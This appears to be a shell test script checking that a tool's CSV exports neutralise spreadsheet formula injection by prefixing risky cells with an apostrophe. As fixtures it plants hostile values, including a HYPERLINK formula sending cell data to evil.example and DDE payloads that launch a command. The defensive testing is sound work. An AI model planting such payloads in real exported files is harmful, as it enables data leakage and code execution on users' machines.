#!/bin/sh
# CSV export safe against formula injection (issue 23, 4): a stored value
# beginning with "=", "+", "-", "@", a tab or a carriage return (stored
# by another program: ally's input refuses them) is exported after an
# apostrophe, in every CSV output; a phone number in E.164 form
# ("+31612345678") and a number stay as they are.
. "$(dirname "$0")/lib.sh"
export ALLY_TODAY=2027-06-15
. "$FIX/hostile/populate.sh"

i=0
for tc in person.name person.email person.function person.community \
    person.background person.religion person.notes venue.name \
    venue.address meeting.location meeting.notes signal.summary action.title \
    action.note review.note audit.what audit.command audit.user; do
	i=$((i + 1))
	case $((i % 6)) in
	0) v="'=HYPERLINK(\"http://evil.example/?\"&A1)'" ;;
	1) v="'+cmd|'' /C calc''!A0'" ;;
	2) v="'-2+3+cmd|'' /C calc''!A0'" ;;
	3) v="'@SUM(1+1)*cmd|'' /C calc''!A0'" ;;
	4) v="char(9) || '=1+1'" ;;
	5) v="char(13) || '=1+1'" ;;
	esac
	# An e-mail address is held to its shape when read: one that is
	# an address and a formula too.
	[ "$tc" = person.email ] && v="'-2+3@calc.example'"
	sqlite3 "$ALLY_DB" "UPDATE ${tc%.*} SET ${tc#*.} = $v"
done

CHECK='
import csv, re, sys
bad = 0
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
for row in rows[1:]:
    for cell in row:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and \
            not re.fullmatch(r"\+[0-9]{6,15}|[-+]?[0-9]+(\.[0-9]+)?", cell):
            bad += 1
            print("formula:", repr(cell), file=sys.stderr)
print(bad, sum(c.startswith("\x27") for r in rows[1:] for c in r))
'
# safe WHAT COMMAND...: no cell a spreadsheet would evaluate; how many
# were neutralised (at least one, or the test tests nothing).
safe() {
	what=$1
	shift
	"$@" >"$T/o.csv" 2>"$T/e"
	is "$?" 0 "$what: exit 0"
	set -- $(python3 -c "$CHECK" "$T/o.csv")
	is "${1:-x}" 0 "$what: no formula"
	ok "$([ "${2:-0}" -gt 0 ]; echo $?)" "$what: $2 values after an apostrophe"
}
safe "ally-add -l -I -f csv" ally-add -l -I -f csv
safe "ally-add -K -f csv" ally-add -K -f csv
safe "ally-add -A -f csv" ally-add -A -f csv
safe "action-track -f csv" action-track -f csv
safe "report-sentiment -l -f csv" report-sentiment -l -f csv
safe "meet-plan -V -l -f csv" meet-plan -V -l -f csv
safe "meet-plan -l -f csv" meet-plan -l -f csv -y 2027
safe "meet-minutes -l -f csv" meet-minutes -l -f csv
safe "ally-review -f csv" ally-review -f csv

# The value behind the apostrophe is the stored one, whole.
ally-add -l -I -f csv >"$T/l.csv"
is "$(python3 -c 'import csv, sys; print([r["notes"] for r in csv.DictReader(open(sys.argv[1], newline=""))][0])' "$T/l.csv")" \
    "'+cmd|' /C calc'!A0" "the stored value follows the apostrophe"
# A phone number and a negative number stay as they are.
sqlite3 "$ALLY_DB" "UPDATE person SET phone = '+31612345678' WHERE alias = 'A01'"
ally-add -l -I -f csv >"$T/l.csv"
like "$(cat "$T/l.csv")" ",\\+31612345678," "a phone number in E.164 form: as it is"
done_testing
